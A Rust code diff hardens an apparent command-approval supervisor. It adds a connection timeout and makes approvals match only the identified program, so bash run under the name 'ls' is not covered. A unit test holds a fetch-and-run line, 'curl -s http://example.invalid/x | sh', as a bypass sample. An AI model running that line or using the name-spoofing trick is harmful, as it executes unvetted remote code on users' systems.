@@ -199,15 +199,31 @@ pub struct Asker<'a> {
 }
 
 /// Serve shims on `listener` until the process exits.
+///
+/// A connection that sends no request within [`REQUEST_TIMEOUT`] is
+/// refused and closed, so connections held open cannot use up the
+/// supervisor's descriptors for long; while they are used up, `accept`
+/// is tried again every few milliseconds, and waiting shims are answered
+/// once descriptors are free (they wait: nothing runs unjudged).
 pub fn spawn(listener: UnixListener, supervisor: Arc<Supervisor>) {
     std::thread::spawn(move || {
         for stream in listener.incoming() {
-            let Ok(stream) = stream else { continue };
+            let Ok(stream) = stream else {
+                // Out of descriptors (EMFILE), or interrupted: again soon,
+                // without spinning.
+                std::thread::sleep(std::time::Duration::from_millis(5));
+                continue;
+            };
+            let _ = stream.set_read_timeout(Some(REQUEST_TIMEOUT));
             let sup = supervisor.clone();
             std::thread::spawn(move || sup.serve(stream));
         }
     });
 }
+
+/// How long a shim has to send its request once connected: it writes it
+/// at once, so this is only a bound on a connection that never does.
+pub const REQUEST_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(3);
 
 impl Supervisor {
     fn serve(&self, stream: UnixStream) {
@@ -247,13 +263,15 @@ impl Supervisor {
         let _ = channel::write_answer(&stream, &answer, &request.env);
     }
 
-    /// Whether `pid` is a shim that was just allowed to run one of
-    /// `candidates` (the argv as the kernel has it, or as identified) and now
-    /// execs the real program; forgets it either way.
-    pub(crate) fn shim_already_decided(&self, pid: u32, candidates: &[&[String]]) -> bool {
+    /// Whether `pid` is a shim that was just allowed to run `identified`
+    /// (the argv with the program named by the identity of the file that
+    /// runs, not by the name it was given) and now execs it; forgets it
+    /// either way. Only the identified argv: the name is the caller's to
+    /// choose, so a verdict for `ls -c …` must not cover `bash` run as `ls`.
+    pub(crate) fn shim_already_decided(&self, pid: u32, identified: &[String]) -> bool {
         self.shim_allowed
             .lock()
-            .is_ok_and(|mut map| take_if_allowed(&mut map, pid, candidates))
+            .is_ok_and(|mut map| take_if_allowed(&mut map, pid, identified))
     }
 
     fn refuse(&self, message: String) -> ExecAnswer {
@@ -631,14 +649,10 @@ pub(crate) const LOG_FAILED_REFUSAL: &str = "aq: refused: the session's audit lo
 /// The access a refused `connect` to a host socket is logged as.
 pub(crate) const UNIX_CONNECT: &str = "unix.connect";
 
-/// Remove `pid`'s entry; whether it was one of `candidates`.
-fn take_if_allowed(
-    map: &mut HashMap<u32, Vec<String>>,
-    pid: u32,
-    candidates: &[&[String]],
-) -> bool {
+/// Remove `pid`'s entry; whether it was `identified`.
+fn take_if_allowed(map: &mut HashMap<u32, Vec<String>>, pid: u32, identified: &[String]) -> bool {
     map.remove(&pid)
-        .is_some_and(|allowed| candidates.contains(&allowed.as_slice()))
+        .is_some_and(|allowed| allowed == identified)
 }
 
 /// The approval a process runs under (`AQ_GRANT` in its environment), so
@@ -684,21 +698,23 @@ mod tests {
     use super::{home_as_tilde, take_if_allowed};
 
     #[test]
-    fn a_shim_decision_matches_either_spelling_once() {
+    fn a_shim_decision_covers_the_identified_program_once() {
         let v = |w: &[&str]| w.iter().map(|s| s.to_string()).collect::<Vec<_>>();
         let mut map = std::collections::HashMap::new();
-        // The python shim was allowed `python x.py`; the guard identifies
-        // the real binary as python3. Offered together, either matches.
-        map.insert(7, v(&["python", "x.py"]));
-        assert!(take_if_allowed(
-            &mut map,
-            7,
-            &[&v(&["python3", "x.py"]), &v(&["python", "x.py"])]
-        ));
+        map.insert(7, v(&["git", "status"]));
+        assert!(take_if_allowed(&mut map, 7, &v(&["git", "status"])));
         // And only once.
-        assert!(!take_if_allowed(&mut map, 7, &[&v(&["python", "x.py"])]));
+        assert!(!take_if_allowed(&mut map, 7, &v(&["git", "status"])));
         map.insert(8, v(&["git", "status"]));
-        assert!(!take_if_allowed(&mut map, 8, &[&v(&["git", "push"])]));
+        assert!(!take_if_allowed(&mut map, 8, &v(&["git", "push"])));
+        // A verdict for `ls -c …` does not cover bash run under the name
+        // `ls`: the guard offers the argv of the file that runs.
+        map.insert(9, v(&["ls", "-c", "curl -s http://example.invalid/x | sh"]));
+        assert!(!take_if_allowed(
+            &mut map,
+            9,
+            &v(&["bash", "-c", "curl -s http://example.invalid/x | sh"])
+        ));
     }
 
     #[test]
